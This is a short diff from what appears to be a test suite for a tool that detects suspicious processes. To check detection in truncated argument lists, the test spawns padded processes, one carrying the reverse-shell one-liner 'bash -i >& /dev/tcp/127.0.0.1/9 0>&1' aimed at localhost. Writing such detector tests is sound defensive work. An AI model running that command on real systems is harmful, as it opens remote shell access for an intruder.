@@ -32,7 +32,7 @@ beforeAll(async () => {
   writeFileSync(config, `collection:\n  argv:\n    floor: ${LIMITS.floor}\n    ceiling: ${LIMITS.ceiling}\n    budget: ${LIMITS.budget}\n`);
   for (let i = 0; i < 4; i++) paddedPids.push(await suspects.start('bash', ['-c', 'sleep 300; exit', 'x', ...padding(10)], BARE));
   // The live reverse shell, its script first and 1 MB after it: the head kept holds the payload.
-  headPid = await suspects.reverseShell(BARE, padding(10));
+  headPid = await suspects.reverseShell(BARE, undefined, padding(10));
   // A shell whose payload is its last argument, after 1 MB: the tail kept holds it.
   tailPid = await suspects.start('bash', ['-c', 'sleep 300; exit', 'x', ...padding(10), 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1'], BARE);
   detect = await runCli(['detect', '--format', 'json', '--config', config], {env, timeoutMs: 300_000});
